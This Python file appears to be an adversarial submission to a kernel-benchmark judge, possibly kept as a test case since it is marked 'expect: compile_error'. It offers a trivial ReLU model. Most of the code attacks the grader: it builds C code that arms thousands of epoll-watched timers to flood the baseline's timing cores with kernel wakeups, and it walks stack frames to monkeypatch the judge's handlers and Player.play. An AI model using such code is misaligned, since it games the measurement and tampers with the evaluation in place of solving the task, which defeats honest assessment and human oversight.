"""Sets thousands of timers as its turn ends, each watched a few hundred times: they go off while it is stopped, and the kernel calls all who
watch on the cores that the baseline is timed on.

No thread of its own runs meanwhile, so that nobody's time on a core tells of it.
"""
# task: relu
# expect: compile_error

import ctypes
import subprocess
import sys

import torch
from torch import nn

SOURCE = r"""
#define _GNU_SOURCE
#include <sched.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/timerfd.h>
#include <time.h>
enum { TIMERS = 1500, STEP_NS = 200000, FIRST_NS = 3000000, MOST_CORES = 2, WATCHERS = 300 };
static int timers[MOST_CORES][TIMERS];

int ready(void) {
    for (int core = 0; core < MOST_CORES; ++core)
        for (int i = 0; i < TIMERS; ++i)
            if ((timers[core][i] = timerfd_create(CLOCK_MONOTONIC, 0)) < 0) return 1;
    for (int watcher = 0; watcher < WATCHERS; ++watcher) {
        int watching = epoll_create1(0);
        for (int core = 0; core < MOST_CORES; ++core)
            for (int i = 0; i < TIMERS; ++i) {
                struct epoll_event event = {EPOLLIN};
                if (epoll_ctl(watching, EPOLL_CTL_ADD, timers[core][i], &event)) return 2;
            }
    }
    return 0;
}

void set(int on) {
    cpu_set_t all, one;
    sched_getaffinity(0, sizeof all, &all);
    for (int core = 0; core < MOST_CORES; ++core) {
        CPU_ZERO(&one);
        CPU_SET(core, &one);
        sched_setaffinity(0, sizeof one, &one);
        struct timespec now;
        clock_gettime(CLOCK_MONOTONIC, &now);
        for (int i = 0; i < TIMERS; ++i) {
            struct itimerspec when;
            memset(&when, 0, sizeof when);
            long long ns = now.tv_nsec + FIRST_NS + (long long)i * STEP_NS;
            if (on) {
                when.it_value.tv_sec = now.tv_sec + ns / 1000000000;
                when.it_value.tv_nsec = ns % 1000000000;
            }
            timerfd_settime(timers[core][i], TFD_TIMER_ABSTIME, &when, 0);
        }
    }
    sched_setaffinity(0, sizeof all, &all);
}
"""


def build():
    with open("/tmp/storm.c", "w") as file:
        file.write(SOURCE)
    subprocess.run(["gcc", "-O2", "-shared", "-fPIC", "/tmp/storm.c", "-o", "/tmp/storm.so"], check=True)
    return ctypes.CDLL("/tmp/storm.so")


storm = build()
if storm.ready():
    raise OSError("no timers")
frame = sys._getframe()
while "handlers" not in frame.f_locals:
    frame = frame.f_back
handlers = frame.f_locals["handlers"]
player = sys.modules["bottega.judge.worker"].Player
prepare, play = handlers["prepare"], player.play


def calm_for_its_own_turn(message):
    storm.set(0)
    return prepare(message)


def play_and_set(self, nonce):
    play(self, nonce)
    storm.set(1)


handlers["prepare"] = calm_for_its_own_turn
player.play = play_and_set


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
